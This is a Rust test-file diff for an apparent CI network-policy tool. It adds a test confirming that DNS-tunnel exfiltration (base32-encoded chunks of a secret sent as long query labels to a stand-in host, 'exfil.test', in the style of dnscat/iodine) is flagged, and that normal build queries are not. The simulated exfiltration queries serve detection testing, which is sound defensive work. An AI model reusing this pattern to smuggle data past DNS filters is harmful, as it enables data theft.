@@ -86,6 +86,13 @@ fn anomalies(events: &Path) -> Vec<serde_json::Value> {
         .collect()
 }
 
+/// [`exec_probe`] of a job that must succeed: its stderr and the anomaly events.
+fn exec_ok(dir: &TempDir, args: &[&str], actions: &[String]) -> (String, Vec<serde_json::Value>) {
+    let (out, found) = exec_probe(dir, args, actions);
+    assert!(out.status.success(), "{}", stderr(&out));
+    (stderr(&out), found)
+}
+
 fn stderr(o: &Output) -> String {
     String::from_utf8_lossy(&o.stderr).into_owned()
 }
@@ -192,5 +199,106 @@ fn new_destination_is_raised_against_a_learned_baseline_and_a_policy() {
     assert_eq!(signals(&found), ["new_destination"]);
     assert_eq!(found[0]["dst_port"], other.addr.port());
     let (_, found) = exec_probe(&dir, &by_policy, &usual);
+    assert!(found.is_empty(), "{found:?}");
+}
+
+/// DNS to `resolver_ip` by NetworkPolicy, the name `build.pg.test` by DomainPolicy: the job
+/// is DNS-filtered.
+fn build_names_only(dir: &TempDir, resolver_ip: &str) -> PathBuf {
+    let path = dir.path("dns-policy.yaml");
+    std::fs::write(
+        &path,
+        format!(
+            "apiVersion: networking.k8s.io/v1
+kind: NetworkPolicy
+metadata: {{name: dns, namespace: ci}}
+spec:
+  podSelector: {{}}
+  policyTypes: [Egress]
+  egress:
+  - to: [{{ipBlock: {{cidr: {resolver_ip}/32}}}}]
+    ports: [{{protocol: UDP, port: 53}}]
+---
+apiVersion: pipeguard.dev/v1alpha1
+kind: DomainPolicy
+metadata: {{name: build, namespace: ci}}
+spec:
+  podSelector: {{}}
+  egress:
+  - domains: [build.pg.test]
+    ports: [{{port: 443}}]
+"
+        ),
+    )
+    .unwrap();
+    path
+}
+
+#[test]
+fn dns_tunnel_is_raised_by_long_encoded_query_names_and_not_by_a_normal_build() {
+    let pid = std::process::id();
+    let resolver_ip = format!("127.56.{}.{}", (pid / 250) % 250, pid % 250 + 1);
+    let dns =
+        common::dnsmasq::Dnsmasq::start("anomaly-tunnel", &resolver_ip, "127.0.0.1 build.pg.test\n", 60);
+    let dir = TempDir::new("anomaly-tunnel");
+    let policy = build_names_only(&dir, &resolver_ip);
+    let policy = policy.to_str().unwrap();
+    let r = dns.addr;
+    // A base32 chunk of a secret per query, as dnscat/iodine-style tools send them.
+    let chunk = "mzxw6ytboi2dkmrtgq3tqnzsgeydmobqgiztinjwg4ydembqgi3tsnzq";
+    let first = format!("{chunk}.0.t.exfil.test");
+    let tunnel = [
+        format!("dns-udp {r} build.pg.test"),
+        format!("dns-udp {r} {first}"),
+        format!("dns-udp {r} {chunk}.1.t.exfil.test"),
+    ];
+
+    // Enforced: the queries never leave, and the attempt is still flagged.
+    let (err, found) = exec_ok(&dir, &["--policy", policy], &tunnel);
+    assert_eq!(signals(&found), ["dns_tunnel"], "{err}");
+    assert_eq!(found[0]["domain"], "exfil.test", "{found:?}");
+    assert!(
+        found[0]["detail"]
+            .as_str()
+            .unwrap()
+            .contains("56-character label"),
+        "{found:?}"
+    );
+    assert!(err.contains("ANOMALY  dns_tunnel:"), "{err}");
+    assert!(
+        !dns.saw(&first),
+        "a refused query reached the resolver:\n{}",
+        dns.log()
+    );
+
+    // Audited: the queries reach the resolver, and the tunnel is flagged all the same.
+    let (err, found) = exec_ok(&dir, &["--policy", policy, "--mode", "audit"], &tunnel);
+    assert_eq!(signals(&found), ["dns_tunnel"], "{err}");
+    // dnsmasq writes its query log on its own schedule.
+    common::agent::eventually(
+        std::time::Duration::from_secs(5),
+        "the audited query never reached dnsmasq",
+        || dns.saw(&first),
+    );
+
+    // A normal build: its names, and one refused name of ordinary shape.
+    let normal = [
+        format!("dns-udp {r} build.pg.test"),
+        format!("dns-udp {r} build.pg.test"),
+        format!("dns-udp {r} telemetry.exfil.test"),
+    ];
+    let (err, found) = exec_ok(&dir, &["--policy", policy], &normal);
+    assert!(found.is_empty(), "{found:?}");
+    assert!(
+        err.contains("DNS query telemetry.exfil.test"),
+        "the refused query is an event all the same:\n{err}"
+    );
+
+    // Switched off, the tunnel raises nothing.
+    let (_, found) = exec_ok(
+        &dir,
+        &["--policy", policy, "--anomaly", "dns_tunnel=off"],
+        &tunnel,
+    );
     assert!(found.is_empty(), "{found:?}");
 }
